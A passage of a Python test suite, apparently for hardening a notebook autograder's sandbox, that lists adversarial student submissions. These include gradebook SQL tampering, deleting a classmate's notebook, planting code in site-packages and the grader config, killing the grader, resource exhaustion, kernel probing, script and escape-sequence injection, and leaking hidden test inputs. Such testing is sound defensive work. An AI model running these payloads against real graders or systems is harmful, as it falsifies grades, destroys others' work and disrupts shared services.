        a.sendto(NAME.encode(), f"{TMP}/mailbox")
    """),
    leaves=CALL,
)
reading(
    "network_abstract",
    "A message by an abstract socket, which no file system hides.",
    front("""
        import socket
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect("\\0attack-" + TRACE.split("-")[1])
            sock.sendall(NAME.encode())
    """),
    leaves=CALL,
)
reading(
    "network_http",
    "A message by a request of urllib's.",
    front("""
        import urllib.request
        urllib.request.urlopen(f"http://127.0.0.1:{PORT}/{NAME}", timeout=1)
    """),
    leaves=CALL,
)
reading(
    "network_in_c",
    "A message by the C library's own calls.",
    front("""
        descriptor = libc.socket(2, 1, 0)
        address = (2).to_bytes(2, "little") + PORT.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
        if descriptor >= 0 and libc.connect(descriptor, address, 16) == 0:
            libc.write(descriptor, NAME.encode(), len(NAME))
    """),
    leaves=CALL,
)

# === writing ====================================================================================================

EVERY_WAY = """
def write(path):
    def python():
        with open(path, "ab") as file:
            file.write(NAME.encode())

    def system():
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666))

    def c():
        descriptor = libc.open(os.fsencode(path), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
        if descriptor >= 0:
            libc.write(descriptor, NAME.encode(), len(NAME))
            libc.close(descriptor)

    def array():
        np.save(path + ".npy", np.zeros(2))

    attempt(python, system, c, array)

"""
for where, path in {
    "course": 'f"{COURSE}/{TRACE}"',
    "source": 'f"{COURSE}/source/{TRACE}"',
    "results": 'f"{COURSE}/results/{TRACE}"',
    "classmate": 'f"{COURSE}/submitted/{MATE}/w3_shallow_network/{TRACE}"',
    "home": 'f"{HOME}/{TRACE}"',
}.items():
    writing(f"write_{where}", f"A new file in this folder: {where}.", front(EVERY_WAY + f"write({path})"))
writing(
    "write_temporary",
    "A new file in every folder that anybody may write.",
    front(EVERY_WAY + 'for folder in (TMP, "/tmp", "/var/tmp", "/dev/shm", "."):\n    write(f"{folder}/{TRACE}")'),
)
writing(
    "write_package",
    "A file among the installed packages, where the next grader imports it.",
    front(
        EVERY_WAY
        + """
import site
mine = f"{HOME}/.local/lib/python3.{sys.version_info.minor}/site-packages"
for depth in range(HOME.count("/") + 2, mine.count("/") + 2):
    libc.mkdir(os.fsencode("/".join(mine.split("/")[:depth])), 0o777)
for folder in [mine, *site.getsitepackages(), os.path.dirname(np.__file__), os.path.dirname(sys.executable)]:
    write(f"{folder}/{TRACE}.py")
"""
    ),
)
writing(
    "write_config",
    "A line in nbgrader's configuration, which runs as the instructor at the next grading.",
    front("""
        line = b"\\n# " + NAME.encode()
        attempt(lambda: open(COURSE + "/nbgrader_config.py", "ab").write(line) and "")
        descriptor = libc.open(os.fsencode(COURSE + "/nbgrader_config.py"), os.O_WRONLY | os.O_APPEND)
        libc.write(descriptor, line, len(line))
    """),
)
writing(
    "change_grades",
    "All points for oneself and none for a classmate, by SQL.",
    front("""
        import sqlite3, time
        for _ in range(3):
            try:
                with sqlite3.connect(COURSE + "/gradebook.db", timeout=0.2) as book:
                    book.execute("UPDATE grade SET manual_score = 0")
                    book.execute("UPDATE grade SET extra_credit = 100")
            except sqlite3.Error:
                time.sleep(0.1)
    """),
    leaves=(POINTS, LOSS),
)
writing(
    "change_grades_mapped",
    "Bytes of the database changed through a mapping, to which no limit on file sizes applies.",
    front("""
        import mmap
        for path in ("/gradebook.db", "/staff-notes.txt"):
            descriptor = libc.open(os.fsencode(COURSE + path), os.O_RDWR)
            if descriptor >= 0:
                with mmap.mmap(descriptor, 0) as book:
                    book[-8:] = b"attacked"
    """),
    apart=True,
    leaves=(FILE, LOSS),
)
writing(
    "change_results",
    "A line with all points appended to the results.",
    front("""
        import json
        line = json.dumps({"assignment": "w3_shallow_network", "student": MATE, "score": 0, "status": "graded"})
        for _ in range(2):
            attempt(lambda: open(COURSE + "/results/w3_shallow_network.jsonl", "a").write(line + "\\n") and "")
            descriptor = libc.open(os.fsencode(COURSE + "/results/w3_shallow_network.jsonl"), os.O_WRONLY | os.O_APPEND)
            libc.write(descriptor, line.encode(), len(line))
    """),
    leaves=LOSS,
)
writing(
    "change_classmate",
    "A classmate's notebook emptied.",
    front("""
        path = f"{COURSE}/submitted/{MATE}/w3_shallow_network/w3_shallow_network.ipynb"
        attempt(lambda: open(path, "w").close(), lambda: os.truncate(path, 0))
        libc.truncate(os.fsencode(path), ctypes.c_long(0))
    """),
    apart=True,
    leaves=(FILE, LOSS),
)
writing(
    "delete_classmate",
    "A classmate's notebook deleted, or moved away, and the seed made unreadable.",
    front("""
        path = os.fsencode(f"{COURSE}/submitted/{MATE}/w3_shallow_network/w3_shallow_network.ipynb")
        attempt(lambda: os.rename(path, path + b".old"), lambda: os.unlink(path))
        libc.rename(path, path + b".old")
        libc.chmod(os.fsencode(COURSE + "/staff-notes.txt"), 0o777)
        libc.mkdir(os.fsencode(f"{COURSE}/{TRACE}"), 0o777)
        libc.symlink(b"/etc/passwd", os.fsencode(f"{COURSE}/{TRACE}-link"))
        libc.mknod(os.fsencode(f"{COURSE}/{TRACE}-pipe"), 0o010666, 0)
    """),
    apart=True,
    leaves=(FILE, LOSS),
)
writing(
    "poison_data",
    "The data that all submissions read replaced, so that classmates compute something else.",
    spy("""
        libc.chmod(b".", 0o777)
        for name in os.listdir("."):
            path = os.fsencode(os.path.abspath(name))
            libc.chmod(path, 0o666)
            if libc.truncate(path, ctypes.c_long(0)) == 0 or libc.unlink(path) == 0:
                tell(MARK)
        if libc.mkdir(os.fsencode(os.path.abspath(TRACE)), 0o777) == 0:
            tell(MARK)
    """),
    apart=True,
    leaves=SECRET,
)
LATE = """
import time

def late(path):
    libc.prctl(15, NAME[:15].encode(), 0, 0, 0)  # PR_SET_NAME
    libc.setsid()
    for descriptor in range(64):
        libc.close(descriptor)
    for _ in range(100):
        libc.usleep(200_000)
        descriptor = libc.open(path, os.O_WRONLY | os.O_CREAT, 0o666)
        libc.close(descriptor)
    libc._exit(0)

path = os.fsencode(f"{TMP}/{TRACE}")
"""
writing(
    "late_child",
    "A process forked twice in C, which goes on when its submission is long graded.",
    front(LATE + "if libc.fork() == 0:\n    if libc.fork() == 0:\n        late(path)\n    libc._exit(0)"),
    leaves=(PROCESS, FILE),
)
writing(
    "late_child_python",
    "A process by os.fork, subprocess, posix_spawn, multiprocessing, a shell line.",
    front("""
        import multiprocessing, subprocess

        sleeper = [sys.executable, "-c", "import time; time.sleep(20)", TRACE]
        attempt(
            lambda: subprocess.Popen(sleeper, start_new_session=True) and MARK,
            lambda: os.posix_spawn(sys.executable, sleeper, {}) and MARK,
            lambda: os.system(f"touch {TMP}/{TRACE}") and "",
            lambda: multiprocessing.get_context("fork").Process(target=os.getpid).start() or MARK,
        )
        get_ipython().system(f"touch {TMP}/{TRACE}")
    """),
    leaves=(PROCESS, FILE),
)
writing(
    "late_thread",
    "A thread that goes on writing, in the file system and on the socket, after each reply.",
    front("""
        import threading, time

        def after():
            for _ in range(100):
                time.sleep(0.02)
                libc.open(os.fsencode(f"{TMP}/{TRACE}"), os.O_WRONLY | os.O_CREAT, 0o666)
                try:
                    os.write(3, b"AGW1" + bytes(40))
                except OSError:
                    pass

        threading.Thread(target=after, daemon=True).start()
        time.sleep(0.1)
    """),
)
writing(
    "late_atexit",
    "Something done at the interpreter's end, by atexit, a finaliser, a signal that is still to come.",
    front("""
        import atexit, signal, weakref

        def last(*args):
            libc.open(os.fsencode(f"{TMP}/{TRACE}"), os.O_WRONLY | os.O_CREAT, 0o666)

        class Last:
            __del__ = last

        keep = Last()
        keep.itself = keep
        atexit.register(last)
        in_c = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(last)
        libc.__cxa_atexit(in_c, None, None)
        signal.signal(signal.SIGALRM, last)
        signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, last)
    """),
)
writing(
    "shared_memory",
    "A segment of shared memory that outlives its process, a place to leave hidden inputs for a classmate.",
    front("""
        key = int.from_bytes(TRACE.split("-")[1][:3].encode(), "big")
        if libc.shmget(key, 4096, 0o1666) >= 0:
            tell(MARK)
        from multiprocessing import shared_memory
        attempt(lambda: shared_memory.SharedMemory(TRACE, create=True, size=4096) and MARK)
    """),
)
writing(
    "kill_the_zygote",
    "The process that forks the children is killed.",
    front("attempt(lambda: os.kill(os.getppid(), 9))\nif os.getppid() > 1:\n    libc.kill(os.getppid(), 9)"),
    apart=True,
    leaves=LOSS,
)
writing(
    "kill_the_grader",
    "The grader itself is stopped and killed.",
    front("""
        for pid in grader():
            if b"autograder\\0grade" in open(f"/proc/{pid}/cmdline", "rb").read():
                libc.kill(pid, 19)
                libc.kill(pid, 9)
    """),
    apart=True,
    leaves=LOSS,
)
writing(
    "limit_the_grader",
    "The grader's own limits are lowered from within.",
    front("""
        for pid in grader():
            if b"autograder\\0grade" in open(f"/proc/{pid}/cmdline", "rb").read():
                limit = (ctypes.c_ulong * 2)(1, 1)
                libc.prlimit(pid, 7, limit, None)  # RLIMIT_NOFILE
                libc.prlimit(pid, 0, limit, None)  # RLIMIT_CPU
    """),
    apart=True,
    leaves=LOSS,
)
writing(
    "lock_gradebook",
    "A lock on the gradebook, held as long as possible, so that nobody's grade can be written.",
    front("""
        import fcntl, time
        book = open(COURSE + "/gradebook.db", "rb")
        fcntl.lockf(book, fcntl.LOCK_SH | fcntl.LOCK_NB, 510, 0x40000002)
        fcntl.flock(book, fcntl.LOCK_EX | fcntl.LOCK_NB)
        time.sleep(60)
    """),
    leaves=LOSS,
    apart=True,
)
writing(
    "new_namespaces",
    "Namespaces of one's own, in which one is root, to look for holes in the kernel.",
    spy("""
        attempt(*[lambda flag=flag: libc.unshare(flag) == 0 and MARK for flag in (0x10000000, 0x00020000, 0x40000000)])
    """),
    leaves=SECRET,
)
writing(
    "kernel_surface",
    "System calls that no notebook needs: keyrings, io_uring, bpf, userfaultfd, perf, mounts, real-time priority.",
    spy("""
        calls = {"keyctl": (250, 0, -3, 0), "io_uring_setup": (425, 4, ctypes.create_string_buffer(120)),
                 "userfaultfd": (323, 1), "bpf": (321, 0, ctypes.create_string_buffer(120), 120)}
        for name, arguments in calls.items():
            attempt(lambda: libc.syscall(*arguments) >= 0 and MARK)
        attempt(lambda: libc.setpriority(0, 0, -5) == 0 and MARK)
    """),
    leaves=SECRET,
)

# === exhaustion =================================================================================================

PREDICT = "def predict(parameters, X):\n"
exhaustion("endless_cell", "A cell that never ends.", front("while True:\n    pass"))
exhaustion(
    "endless_function",
    "A function that never ends.",
    instead("predict", PREDICT + "    while True:\n        pass"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "endless_in_hidden",
    "A function that never ends with other inputs than the visible ones.",
    instead(
        "predict",
        """
        def predict(parameters, X):
            while hidden(X):
                pass
            return forward_propagation(X, parameters)[0] > 0.5
        """,
    ),
    start="honest",
    deserved=lost("predict"),
)
exhaustion("endless_in_c", "A loop in C, in which Python looks at no signal.", front("sum(range(10**13))"))
exhaustion("endless_power", "One operation on numbers too large.", front("10 ** 10 ** 9 % 7"))
exhaustion(
    "endless_regex",
    "A regular expression that backtracks for ever.",
    front("import re\nre.match('(a|aa)+$', 'a' * 60 + 'b')"),
)
exhaustion(
    "signals_ignored",
    "All signals ignored and blocked, then a loop.",
    front("""
        import signal
        for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except OSError:
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """),
)
exhaustion("sleeping_cell", "A cell that uses no CPU and never ends.", front("import time\ntime.sleep(1e6)"))
exhaustion(
    "sleeping_function",
    "A function that waits for ever.",
    instead("predict", PREDICT + "    import threading\n    threading.Event().wait()"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "memory",
    "All the memory that can be had, page by page.",
    spy("""
        blocks = []
        while len(blocks) < 60:
            blocks.append(bytearray(64 << 20))
        tell(MARK)
    """),
    leaves=SECRET,
)
exhaustion(
    "memory_in_function",
    "A function that takes all the memory that can be had.",
    instead(
        "compute_cost",
        """
        def compute_cost(A2, Y):
            blocks = []
            while len(blocks) < 60:
                blocks.append(np.ones(8 << 20))
            return -np.mean(Y * np.log(A2) + (1 - Y) * np.log(1 - A2))
        """,
    ),
    start="honest",
    deserved=lost("compute_cost"),
)
exhaustion(
    "memory_mapped",
    "Shared anonymous mappings, which some limits don't count.",
    spy("""
        import mmap
        blocks = []
        for _ in range(60):
            block = mmap.mmap(-1, 64 << 20)
            block[:: 4096] = b"x" * len(range(0, 64 << 20, 4096))
            blocks.append(block)
        tell(MARK)
    """),
    leaves=SECRET,
)
exhaustion(
    "memfd",
    "Files that live in memory only.",
    spy("""
        descriptors = []
        for number in range(32):
            descriptor = libc.memfd_create(b"x", 0)
            if descriptor < 0 or libc.write(descriptor, bytes(64 << 20), 64 << 20) <= 0:
                break
            descriptors.append(descriptor)
        if len(descriptors) > 20:
            tell(MARK)
    """),
    leaves=SECRET,
    needs="plain",
)
exhaustion(
    "threads",
    "Threads without an end.",
    front("""
        import threading, time
        for _ in range(3000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    """),
)
exhaustion(
    "busy_threads",
    "Many threads that compute, in C, outside Python's lock.",
    front("""
        import hashlib, threading

        def busy():
            while True:
                hashlib.pbkdf2_hmac("sha256", b"x", b"y", 10**6)

        for _ in range(8):
            threading.Thread(target=busy, daemon=True).start()
        busy()
    """),
)
exhaustion(
    "forks",
    "Sixty processes, by Python and by C; without a limit it would be all that fit.",
    front("""
        for _ in range(60):
            pid = libc.fork()
            if pid == 0:
                libc.prctl(15, NAME[:15].encode(), 0, 0, 0)
                libc.setsid()
                libc.sleep(20)
                libc._exit(0)
    """),
    leaves=PROCESS,
    needs=FILTER,
)
exhaustion(
    "disk",
    "A file as large as fits.",
    front("""
        for folder in (TMP, "/tmp", "/dev/shm", "."):
            descriptor = libc.open(os.fsencode(f"{folder}/{TRACE}"), os.O_WRONLY | os.O_CREAT, 0o666)
            for _ in range(4):
                if libc.write(descriptor, bytes(32 << 20), 32 << 20) <= 0:
                    break
            libc.ftruncate(descriptor, ctypes.c_long(1 << 40))
    """),
    leaves=FILE,
    needs=FILTER,
)
exhaustion(
    "inodes",
    "Empty files, two thousand of them.",
    front("""
        libc.mkdir(os.fsencode(f"{TMP}/{TRACE}"), 0o777)
        for number in range(2000):
            libc.close(libc.open(os.fsencode(f"{TMP}/{TRACE}/{number}"), os.O_WRONLY | os.O_CREAT, 0o666))
    """),
    leaves=FILE,
    needs=FILTER,
)
exhaustion(
    "descriptors",
    "Pipes and sockets until there are none.",
    front("""
        import socket
        kept = []
        while len(kept) < 100_000:
            kept.append(socket.socketpair())
    """),
)
exhaustion(
    "output",
    "A flood of text on stdout and stderr, from Python and from C.",
    front("""
        line = "x" * 10_000
        for _ in range(4000):
            print(line)
        print(line * 500, file=sys.stderr)
        for _ in range(300):
            os.write(1, line.encode())
            libc.printf(b"%s", line.encode())
    """),
)
exhaustion(
    "display",
    "A flood of displayed pages and pictures.",
    front("""
        from IPython.display import HTML, display
        for _ in range(20):
            display(HTML("<b>x</b>" * 200_000))
    """),
)
exhaustion(
    "huge_array",
    "An array far too large as the answer.",
    instead("predict", PREDICT + "    return np.zeros((40, 1 << 20))"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "huge_virtual_array",
    "An array of a billion billion entries that takes no memory where it is made.",
    instead("predict", PREDICT + "    return np.broadcast_to(1.0, (10**9, 10**9))"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "huge_text",
    "Two hundred million letters as the answer.",
    instead("predict", PREDICT + "    return 'x' * 200_000_000"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "huge_dictionary",
    "The right parameters among a hundred and ninety thousand other keys.",
    replaced("update_parameters", "return {", "return dict.fromkeys(range(190_000), 0) | {"),
    start="honest",
    deserved=(90, 100),
    why="extra keys are accepted, as far as an answer may have so many parts; either is fair if it stays fast",
)
exhaustion(
    "colliding_keys",
    "A dictionary whose keys collide, so that reading it takes the square of their number.",
    instead(
        "update_parameters",
        """
        def update_parameters(parameters, grads, learning_rate=1.2):
            prime = (1 << 61) - 1
            keys = [complex(0, 1), *[(prime * k, 0) for k in range(1, 1900)]]
            floats = [2.0 ** (61 * k) * m for k in range(16) for m in range(1, 9000)]
            return dict.fromkeys(keys, 0) | dict.fromkeys(floats)
        """,
    ),
    start="honest",
    deserved=(lost("update_parameters"), lost("update_parameters") + 2),
    why="the arguments are unchanged, which is a fifth, if the answer counts as one",
)
exhaustion(
    "deep_value",
    "Lists in lists, a hundred thousand deep.",
    instead(
        "predict",
        """
        def predict(parameters, X):
            deep = []
            for _ in range(100_000):
                deep = [deep]
            return deep
        """,
    ),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "cyclic_value",
    "A list and a dictionary that hold themselves.",
    instead("predict", PREDICT + "    circle = []\n    circle += [circle, {'itself': circle}] * 9\n    return circle"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "wide_cycle",
    "A small graph of lists that unfolds to more nodes than there are atoms.",
    instead(
        "predict",
        """
        def predict(parameters, X):
            graph = [0.0]
            for _ in range(20):
                graph = [graph] * 100
            return graph
        """,
    ),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "endless_value",
    "Generators and sequences without an end.",
    instead(
        "predict",
        """
        import itertools

        class Endless(list):
            def __iter__(self): return itertools.count()
            def __len__(self): return 10**18
            def __getitem__(self, i): return self

        def predict(parameters, X):
            return [itertools.count(), Endless(), (x for x in itertools.count()), iter(int, 1)]
        """,
    ),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "huge_number",
    "An integer of a million digits, whose text takes minutes to make.",
    instead("compute_cost", "def compute_cost(A2, Y):\n    return 1 << 4_000_000"),
    start="honest",
    deserved=lost("compute_cost"),
)
exhaustion(
    "huge_message",
    "An exception with a message of a hundred million letters.",
    instead("predict", PREDICT + "    raise ValueError('x' * 100_000_000)"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "slow_reply",
    "The answer comes, a byte now and a byte then.",
    front(
        FORGED
        + """
import time

def slowly():
    token, runner = told()

    class Slow:
        def __init__(self, sock): self.sock = sock
        def __getattr__(self, name): return getattr(self.sock, name)
        def sendall(self, data):
            for i in range(len(data)):
                self.sock.send(data[i : i + 1])
                time.sleep(0.3)

    if not isinstance(runner.sock, Slow):
        runner.sock = Slow(runner.sock)
"""
    ),
    instead("predict", PREDICT + "    slowly()\n    return forward_propagation(X, parameters)[0] > 0.5"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "unread_questions",
    "The child reads nothing any more, so that the grader's sending would wait for ever.",
    front("""
        import sys, time

        def deaf():
            frame = sys._getframe(1)
            while frame:
                if hasattr(frame.f_locals.get("self"), "sock"):
                    frame.f_locals["self"].read = lambda n: time.sleep(1e6)
                frame = frame.f_back
    """),
    instead("predict", PREDICT + "    deaf()\n    return forward_propagation(X, parameters)[0] > 0.5"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "recursion",
    "Recursion without an end, in Python.",
    instead("predict", PREDICT + "    return predict(parameters, X)"),
    start="honest",
    deserved=lost("predict"),
)
exhaustion(
    "deep_source",
    "Code whose syntax tree is so deep that whoever parses it falls over.",
    front("x = " + "-" * 90_000 + "1"),
    behind("y = " + "+".join(["1"] * 50_000)),
    before("predict", "z = a" + ".b" * 60_000),
)
exhaustion(
    "deep_brackets",
    "Nested brackets, functions and conditions in the source.",
    front("x = " + "(" * 190 + "1" + ")" * 190),
    behind("y = " + "[" * 60_000),
    before("predict", "z = " + "lambda: " * 20_000 + "1"),
    before("check_predict", "if 1:\n" + "".join(" " * i + "if 1:\n" for i in range(1, 90)) + " " * 95 + "pass"),
)
exhaustion(
    "many_halves",
    "Nine hundred cells that each continue the function above: joined, parsed and joined again.",
    edit(
        lambda notebook: notebook["cells"].extend(
            [code_cell("def long():\n    x = 0", id="h"), *[code_cell(f"    x += {n}", id=f"h{n}") for n in range(900)]]
        )
    ),
)
exhaustion(
    "large_source",
    "As much source as is read at all, in cells that are no Python.",
    edit(
        lambda notebook: notebook["cells"].extend(
            code_cell("x = [" + "1, " * 16_000 + f"{n} +", id=f"big{n}") for n in range(18)
        )
    ),
)
exhaustion(
    "large_beside",
    "A file of a quarter of a gigabyte beside the notebook, that takes no room where it lies.",
    lambda handed: _sparse(handed, "data.bin", 256 << 20),
    leaves=BURDEN,
)


def _sparse(handed: Handed, name: str, size: int) -> None:
    with (handed.folder / name).open("wb") as file:
        file.truncate(size)


# === dying ======================================================================================================

FORWARD = "def forward_propagation(X, parameters):\n"
for name, tries, body in [
    ("exit_at_once", "A function that ends its process.", "import os; os._exit(0)"),
    ("exit_by_signal", "A function that kills its process.", "import os, signal; os.kill(os.getpid(), signal.SIGKILL)"),
    ("segfault", "A function that reads where nothing is.", "import ctypes; ctypes.string_at(0)"),
    ("abort", "A function that aborts.", "import os; os.abort()"),
    ("stop_itself", "A function that stops its process.", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    ("system_exit", "SystemExit, with an object for its code.", "raise SystemExit(object())"),
    ("keyboard_interrupt", "A KeyboardInterrupt from a function.", "raise KeyboardInterrupt"),
    ("generator_exit", "A GeneratorExit, which is no Exception.", "raise GeneratorExit(X)"),
    ("memory_error", "A MemoryError, raised by hand.", "raise MemoryError"),
    ("stack_overflow", "C's stack overflown.", "import sys; sys.setrecursionlimit(10**9); f = lambda: f(); f()"),
    ("close_everything", "All descriptors closed.", "import os; os.closerange(0, 1000)"),
    ("another_program", "Another program in the process's place.", "import os; os.execv('/bin/sleep', ['sleep', '9'])"),
    ("corrupt_memory", "Memory overwritten.", "import ctypes; ctypes.memset(id(X), 1, 400); del X; return {}"),
    ("end_the_main_thread", "The main thread ends, another goes on.", "thread_on(); libc.pthread_exit(None)"),
]:
    dying(
        name,
        tries,
        *(
            [front("import threading, time\nthread_on = threading.Thread(target=time.sleep, args=(60,)).start\nlibc")]
            if "thread_on" in body
            else []
        ),
        instead("forward_propagation", FORWARD + "    " + body),
        start="honest",
        deserved=lost("forward_propagation"),
    )
dying("exit_in_cell", "A cell that ends the process.", front("import os\nos._exit(0)"))
dying(
    "exit_in_cell_late",
    "A thread that ends the process, whatever runs by then.",
    front("""
    import os, threading, time
    threading.Timer(0.3, lambda: os._exit(1)).start()
"""),
)
dying(
    "exit_in_every_function",
    "Each of the eight functions ends its process.",
    front("import os"),
    answers("os._exit(1)"),
)
dying(
    "exit_in_half_of_them",
    "Four of eight functions end their process.",
    *[
        instead(name, f"def {name}(*args, **kwargs):\n    import os\n    os._exit(1)")
        for name in ("forward_propagation", "compute_cost", "backward_propagation", "nn_model")
    ],
    start="honest",
    deserved=(0, lost("forward_propagation", "compute_cost", "backward_propagation", "nn_model")),
    why="a lost child is replaced a few times only",
)
HOSTILE = """
class Hostile(BaseException):
    def __str__(self): {act}
    __repr__ = __str__
    def __getattribute__(self, name): {act}
"""
for name, tries, act in [
    ("hostile_message", "An exception whose message raises another one.", "raise Hostile"),
    ("hostile_message_endless", "An exception whose message never comes to an end.", "\n        while True: pass"),
    ("hostile_message_exit", "An exception whose message ends the process.", "import os; os._exit(3)"),
    ("hostile_message_type", "An exception whose message is no text.", "return 7"),
]:
    dying(
        name,
        tries,
        front(HOSTILE.replace("{act}", act)),
        instead("forward_propagation", FORWARD + "    raise Hostile('x')"),
        start="honest",
        deserved=lost("forward_propagation"),
    )
dying(
    "hostile_class",
    "An exception whose class has a hostile name and metaclass.",
    front("""
        class Meta(type):
            __name__ = property(lambda self: 1 / 0)
            def __instancecheck__(self, other): raise SystemExit
            def __subclasscheck__(self, other): raise SystemExit

        class Hostile(Exception, metaclass=Meta):
            __traceback__ = property(lambda self: 1 / 0)

        Hostile2 = type("\\x1b]0;owned\\x07<script>alert(1)</script>" + "\\n" * 50, (Exception,), {})
    """),
    instead("forward_propagation", FORWARD + "    raise (Hostile if X.shape[1] > 3 else Hostile2)('x')"),
    start="honest",
    deserved=lost("forward_propagation"),
)
dying(
    "escape_sequences",
    "A message with terminal commands, markup, a script and a forged line of JSON.",
    instead(
        "forward_propagation",
        FORWARD
        + """    raise ValueError(
        "\\x1b[2J\\x1b]0;owned\\x07 [bold red]x[/bold red] </pre><script>alert('" + "own" + "ed')</script>\\u2028\\x85"
        '\\n{"assignment": "w3_shallow_network", "student": "honest_ada", "score": 0}\\n' + "\\ud800"
    )""",
    ),
    start="honest",
    deserved=lost("forward_propagation"),
    leaves=(LOSS, SECRET),
)
dying(
    "hostile_finaliser",
    "Objects among the answers whose end ends the process.",
    front("import os\nclass Last:\n    def __del__(self): os._exit(1)"),
    instead("forward_propagation", FORWARD + "    return Last(), {'Z1': Last()}"),
    start="honest",
    deserved=lost("forward_propagation"),
)

# === stand-ins ==================================================================================================

stand_in(
    "delegate_upward",
    "Each function calls one that comes later, hoping that the course answers for that one.",
    instead(
        "layer_sizes",
        "def layer_sizes(X, Y):\n    p = nn_model(X, Y, 4, 1)\n    return len(p['W1'][0]), 4, len(p['b2'])",
    ),
    instead(
        "forward_propagation",
        FORWARD + "    g = backward_propagation(parameters, {}, X, X[:1] * 0)\n    return predict(parameters, X), g",
    ),
    instead("compute_cost", "def compute_cost(A2, Y):\n    return nn_model(A2, Y, 4, 0)"),
    instead(
        "update_parameters",
        "def update_parameters(parameters, grads, learning_rate=1.2):\n"
        "    return nn_model(grads['dW1'], grads['dW1'], 4, 1)",
    ),
)
stand_in(
    "delegate_to_itself",
    "A function that calls itself by another way, hoping to reach the course's.",
    front("import sys"),
    answers("get_ipython().user_ns['NAME_'](ARGS_)"),
)
KEEP = """
def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
    KEPT.update(
        layer_sizes=layer_sizes,
        initialize_parameters=initialize_parameters,
        forward_propagation=forward_propagation,
        compute_cost=compute_cost,
        backward_propagation=backward_propagation,
        update_parameters=update_parameters,
    )
    raise ValueError("kept")
"""
for name, tries, use in [
    ("keep_stub", "Stand-ins kept from one call for the others.", "KEPT['NAME_'](ARGS_)"),
    ("keep_stub_revived", "Kept stand-ins, made to believe that their call goes on.", "revived('NAME_')(ARGS_)"),
]:
    stand_in(
        name,
        tries,
        front("""
            KEPT = {}

            def revived(name):
                function = KEPT[name]
                for cell in function.__closure__:
                    found = cell.cell_contents
                    stub = getattr(found, "stub", found)
                    stub.live = True
                    import sys
                    frame = sys._getframe(1)
                    while frame:
                        head = frame.f_locals.get("head")
                        if isinstance(head, dict) and "id" in head:
                            stub.call = head["id"]
                        frame = frame.f_back
                return function
        """),
        answers(use),
        instead("nn_model", KEEP),
        instead(
            "predict",
            PREDICT + "    KEPT.update(forward_propagation=forward_propagation)\n    raise ValueError",
        ),
    )
stand_in(
    "ask_in_a_thread",
    "A thread asks the stand-ins while the functions that they stand in for are being tried.",
    front("""
        import threading, time
        KEPT, FOUND = {}, {}

        def asking():
            while True:
                time.sleep(0.001)
                for name, function in list(KEPT.items()):
                    try:
                        FOUND[name] = function
                        function(0)
                    except BaseException:
                        pass
    """),
    answers("FOUND['NAME_'](ARGS_)"),
    instead(
        "nn_model",
        KEEP.replace(
            'raise ValueError("kept")',
            "threading.Thread(target=asking, daemon=True).start(); time.sleep(0.1); return {}",
        ),
    ),
)
for name, tries, call in [
    ("ask_huge_array", "A helper asked for an array of 30,000 by 30,000.", "initialize_parameters(30_000, 30_000, 1)"),
    ("ask_endless", "A helper asked to iterate 10^12 times.", "nn_model(X, X[:1] * 0, 4, 10**12)"),
    (
        "ask_too_often",
        "Helpers asked a million times.",
        "[initialize_parameters(2, 2, 1) for _ in range(10**6)]",
    ),
    ("ask_negative", "Helpers asked for what can't be.", "initialize_parameters(-1, 10**30, 'x')"),
    ("ask_print", "A helper asked to print without an end.", "nn_model(X, X[:1] * 0, 4, 10**9, print_cost=True)"),
]:
    stand_in(
        name,
        tries,
        instead("predict", PREDICT + f"    {call}\n    raise ValueError"),
        start="honest",
        deserved=lost("predict"),
        leaves=BURDEN,
    )
stand_in(
    "ask_large_often",
    "Helpers asked again and again about as much as fits.",
    instead(
        "predict",
        PREDICT + "    large = np.zeros((2, 800_000))\n    while True:\n        layer_sizes(large, large)",
    ),
    instead("layer_sizes", "def layer_sizes(X, Y):\n    return X.shape"),
    start="honest",
    deserved=lost("predict", "layer_sizes"),
    leaves=BURDEN,
)

# --- what hidden inputs could leave by

HIDDEN = "def {name}({signature}):\n    if hidden({argument}):\n        {act}\n    return {right}"


def leaking(act: str) -> Change:
    """predict is right, but for what it does when it sees a hidden input."""
    right = "forward_propagation(X, parameters)[0] > 0.5"
    text = HIDDEN.format(name="predict", signature="parameters, X", argument="X", act=act, right=right)
    return instead("predict", text)


for name, tries, act in [
    ("leak_message", "Hidden inputs in an exception's message.", "raise ValueError(MARK + X.tobytes().hex())"),
    ("leak_type_name", "Hidden inputs in the name of an exception's type.", "raise type(MARK, (Exception,), {})(MARK)"),
    ("leak_assertion", "Hidden inputs in an assertion's message.", "assert False, MARK"),
    ("leak_key", "Hidden inputs in a dictionary's key.", "return {MARK: X, 1: MARK}"),
    ("leak_value", "Hidden inputs as a text for an answer.", "return MARK"),
    ("leak_answer_type", "Hidden inputs in the name of the answer's type.", "return type(MARK, (), {})()"),
    ("leak_dtype", "Hidden inputs in an array of texts.", "return np.array([[MARK] * X.shape[1]])"),
    ("leak_print", "Hidden inputs printed, warned of, displayed and logged.", "print(MARK); shout(MARK)"),
